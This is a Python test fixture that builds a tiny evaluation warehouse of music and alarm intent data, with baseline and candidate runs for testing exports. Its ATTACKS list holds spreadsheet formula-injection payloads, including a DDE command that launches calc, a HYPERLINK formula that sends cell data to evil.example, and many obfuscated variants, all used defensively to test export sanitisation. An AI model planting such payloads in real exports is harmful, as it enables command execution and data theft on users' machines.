"""A tiny warehouse for exports: one text twice, emoji before slots, slots that stand nowhere, texts that attack."""

import json
from pathlib import Path
from typing import Any, Final

from loaders.evalset import EvalsetOptions, add_evalset
from loaders.run import RunOptions, add_run
from loaders.warehouse import Warehouse
from tests.dashboard.flips_warehouse import write_lines

Json = dict[str, Any]

ATTACKS: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060\u200d=1+1",
    "\u202e=1+1",
    "\xad=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "−1+1",
    "'=1+1",
    '"=1+1',
    '",=1+1,"',
    "a;=1+1;b",
    "a\n=1+1\nb",
    "a\t=1+1\tb",
    "{=1+1}",
    "%0A=1+1",
    "=" + "A" * 300,
    "1e5",
    "007",
    "1/2",
    "TRUE",
)


def _gold(key: str, text: str, intent: str = "play", *slots: tuple[str, str], **more: Any) -> Json:
    found = [
        {"name": name, "value": value} | ({"start": text.index(value), "end": text.index(value) + len(value)})
        if value in text
        else {"name": name, "value": value}
        for name, value in slots
    ]
    row = {"utterance_id": key, "locale": "en-US", "domain": "music", "intent": intent, "text": text, "slots": found}
    return row | {"frequency": 1} | more


GOLD: Final[list[Json]] = [
    _gold("e1", "play 🎵👩‍👩‍👧 adele now", "play", ("artist", "adele"), frequency=40),
    _gold("t1", "stop", "stop", frequency=5),
    _gold("t2", "stop", "stop", frequency=7),
    # The same text with another gold, in another locale, and broken in another way: each a question of its own.
    _gold("t3", "stop", "pause", frequency=100),
    _gold("t4", "stop", "stop", locale="de-DE", frequency=3),
    _gold("t5", "stop", "stop", frequency=2),
    _gold("n1", "wake me early", "alarm", ("time", "05:00"), domain="alarm", frequency=9),
    _gold("n2", "alarm at five", "alarm", ("time", "five"), domain="alarm", frequency=8),
    _gold("ok", "fine", "play"),
    _gold("up", "better now", "play"),
    *(_gold(f"x{i}", text, "play", frequency=0) for i, text in enumerate(ATTACKS)),
]
BROKEN: Final = ("e1", "t1", "t2", "t3", "t4", "t5", "n1", "n2", *(f"x{i}" for i in range(len(ATTACKS))))
N_ITEMS: Final = len(BROKEN) - 1


def _answer(gold: Json, **changed: Any) -> Json:
    slots = [{"name": slot["name"], "value": slot["value"]} for slot in gold["slots"]]
    kept = {key: gold[key] for key in ("utterance_id", "locale", "intent")}
    return kept | {"slots": slots, "confidence": 0.5} | changed


def _baseline(gold: Json) -> Json:
    return _answer(gold, **({"intent": "stop"} if gold["utterance_id"] == "up" else {}))


def _candidate(gold: Json) -> Json | None:
    match gold["utterance_id"]:
        case "e1":
            return _answer(gold, slots=[{"name": "song", "value": "adele"}, {"name": "song", "value": "Hello"}])
        case "t5":
            return _answer(gold, intent="louder")
        case "n1":
            return None
        case "n2":
            return _answer(gold, slots=[])
        case "ok" | "up":
            return _answer(gold)
    return _answer(gold, intent="=evil()")


def write_exports(folder: Path) -> Path:
    """Load the evaluation set `tiny` and its runs `v1` and `v2`; return the warehouse."""
    warehouse = Warehouse(folder / "warehouse")
    add_evalset(warehouse, "tiny", [write_lines(folder / "gold.jsonl", GOLD)], EvalsetOptions(), _quietly)
    runs = {"v1": [_baseline(gold) for gold in GOLD], "v2": [row for gold in GOLD if (row := _candidate(gold))]}
    for name, rows in runs.items():
        add_run(warehouse, name, [write_lines(folder / f"{name}.jsonl", rows)], "tiny", RunOptions(), _quietly)
    return warehouse.path


def read_lines(path: Path) -> list[Json]:
    """Read JSON lines."""
    # Not `splitlines`: it would also cut at line separators within a text.
    return [json.loads(line) for line in path.read_text(encoding="utf-8").split("\n") if line]


def _quietly(_step: str, _n: int) -> None:
    pass
